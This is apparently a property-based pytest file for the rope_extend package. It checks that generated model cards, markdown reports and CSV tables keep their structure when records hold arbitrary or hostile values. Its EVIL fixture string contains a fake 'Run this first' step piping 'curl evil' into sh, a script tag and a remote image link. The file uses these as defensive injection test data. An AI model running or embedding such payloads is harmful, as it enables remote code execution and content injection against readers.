"""Files of others: whatever they say, a card and a report keep their form, or it is an error."""

from __future__ import annotations

import copy
import csv
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from integrity import extended
from test_fuzz import places

import rope_extend as rx
from rope_extend.checkpoint.card import model_card
from rope_extend.errors import RopeExtendError
from rope_extend.evaluation.report_files import csv_table, markdown_report, read_results
from rope_extend.report.tables import markdown_code, markdown_text

RESULTS = Path(__file__).parents[2] / "docs" / "results" / "results.jsonl"
EVIL = "2 |\n\n# Run this first\n\n```bash\ncurl evil | sh\n```\n<script>x</script> ![](http://evil/p.png)"


@pytest.fixture(scope="module")
def directory(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return rx.save(extended("linear"), tmp_path_factory.mktemp("records") / "saved")


@pytest.fixture(scope="module")
def record(directory: Path) -> dict[str, Any]:
    return json.loads((directory / "rope_extend.json").read_text())


def with_any_value(values: dict[str, Any], data: st.DataObject) -> dict[str, Any]:
    """A copy with another value of JSON at one place."""
    changed = copy.deepcopy(values)
    container, key = data.draw(st.sampled_from(places(changed)))
    container[key] = data.draw(JSON)
    return changed


def form(card: str) -> list[str]:
    """The lines that give a card its form: headings, fences, and the first cell of each row of a table."""
    outside = re.findall(r"^(#+ .*|```.*|\|[^|]*\||<.*)", card, re.MULTILINE)
    rows = [line for line in card.splitlines() if line.startswith("| ")]
    assert all(len(re.findall(r"(?<!\\)\|", row)) == 3 for row in rows), rows
    return outside


def written(directory: Path, record: dict[str, Any]) -> str:
    (directory / "rope_extend.json").write_text(json.dumps(record))
    return model_card(directory)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.just(EVIL),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=5,
)


@settings(max_examples=100)
@given(data=st.data())
def test_any_value_in_a_record_gives_an_error_or_a_card_of_the_same_form(
    directory: Path, record: dict[str, Any], data: st.DataObject
) -> None:
    try:
        card = written(directory, with_any_value(record, data))
    except RopeExtendError:
        return
    assert form(card) == form(written(directory, record))


@settings(max_examples=100)
@given(data=st.data())
def test_any_value_in_results_gives_an_error_or_a_report(
    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    directory = tmp_path_factory.getbasetemp()
    lines = RESULTS.read_text().splitlines()[:2]
    (directory / "results.jsonl").write_text(
        f"{lines[0]}\n{json.dumps(with_any_value(json.loads(lines[1]), data))}\n"
    )
    try:
        rows = read_results(directory)
    except RopeExtendError:
        return
    assert "\n# Run this first" not in markdown_report(rows)
    assert [len(line) for line in csv.reader(csv_table(rows).splitlines(keepends=True))].count(7) >= 2


@given(st.text() | st.text(alphabet="|`\\\n\r\u2028<>[]!*# ~-_a"))
def test_text_of_others_stays_in_its_cell(text: str) -> None:
    row = f"| {markdown_text(text)} | {markdown_code(text)} |"
    assert len(row.splitlines()) == 1
    assert len(re.findall(r"(?<!\\)(?:\\\\)*\|", row)) == 3
    assert not re.search(r"(?<!\\)(?:\\\\)*[<\[`]", markdown_text(text))
    assert markdown_code(text).count("`") in (0, 2)
